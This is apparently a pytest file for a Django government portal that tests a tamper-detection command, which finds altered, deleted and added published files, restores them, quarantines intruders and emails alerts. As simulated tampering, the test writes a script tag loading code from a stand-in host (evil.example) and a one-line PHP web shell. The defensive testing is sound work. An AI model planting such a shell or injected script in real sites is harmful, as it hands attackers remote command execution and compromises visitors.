"""The tamper guard (X6, M5): changed, deleted and added files found and restored in one run."""

import json
from io import StringIO
from pathlib import Path

import pytest
from django.core import mail
from django.core.management import call_command

from govsite.audit.models import AuditEntry
from govsite.content.tests.factories import article, column_of
from govsite.publishing.models import TamperIncident
from govsite.publishing.publisher import Publisher, site_dir
from govsite.review.roles import Role

pytestmark = pytest.mark.django_db


@pytest.fixture
def root(settings, tmp_path, portal, django_capture_on_commit_callbacks, make_user):
    settings.GOVSITE_PUBLIC_ROOT = tmp_path / "public"
    settings.DATA_DIR = tmp_path
    make_user("office", Role.PORTAL_OFFICE, email="office@ceshi.gov.cn")
    with django_capture_on_commit_callbacks(execute=True):
        article(column_of(portal, "测试要闻"), "测试市召开防汛工作会议")
    Publisher(portal.site).rebuild()
    return site_dir(portal.site)


def tamper_check(*args) -> tuple[dict, int]:
    out = StringIO()
    try:
        call_command("tamper-check", "--json", *args, stdout=out)
        code = 0
    except SystemExit as stop:
        code = stop.code
    return json.loads(out.getvalue()), code


def test_clean_tree_reports_nothing(root, portal):
    report, code = tamper_check("--site", portal.domain)
    assert code == 0 and report["sites"][0] == {**report["sites"][0], "changed": [], "deleted": [], "added": []}


def test_each_tampering_is_found_and_restored_in_one_run(root, portal):
    home = (root / "index.html").read_bytes()
    listing = root / "zwyw/csyw/index.html"
    (root / "index.html").write_text("<script src=//evil.example/x.js></script>被篡改")
    listing.unlink()
    (root / "shell.php").write_text("<?php system($_GET['c']); ?>")
    (root / "static/govsite/css/site.css").write_text("body{display:none}")

    found, code = tamper_check("--site", portal.domain)
    assert code == 1
    site = found["sites"][0]
    assert site["changed"] == ["index.html", "static/govsite/css/site.css"]
    assert site["deleted"] == ["zwyw/csyw/index.html"] and site["added"] == ["shell.php"]

    restored, code = tamper_check("--site", portal.domain, "--restore")
    assert code == 0 and restored["sites"][0]["restored"]
    assert (root / "index.html").read_bytes() == home
    assert listing.exists() and "测试市召开防汛工作会议" in listing.read_text()
    assert not (root / "shell.php").exists()
    assert (Path(restored["sites"][0]["quarantine"]) / "shell.php").read_text().startswith("<?php")
    assert tamper_check("--site", portal.domain)[0]["sites"][0]["added"] == []

    assert TamperIncident.objects.count() == 2
    assert AuditEntry.objects.filter(action="govsite.publishing.tamper").count() == 2
    assert mail.outbox and "防篡改告警" in mail.outbox[0].subject and mail.outbox[0].to == ["office@ceshi.gov.cn"]


def test_the_office_sees_the_alert_on_the_dashboard(client, root, portal, make_user):
    (root / "index.html").write_text("被篡改")
    tamper_check("--site", portal.domain)
    client.force_login(make_user("office2", Role.PORTAL_OFFICE))
    dashboard = client.get("/admin/").content.decode()
    assert "网页防篡改告警" in dashboard and "未恢复" in dashboard
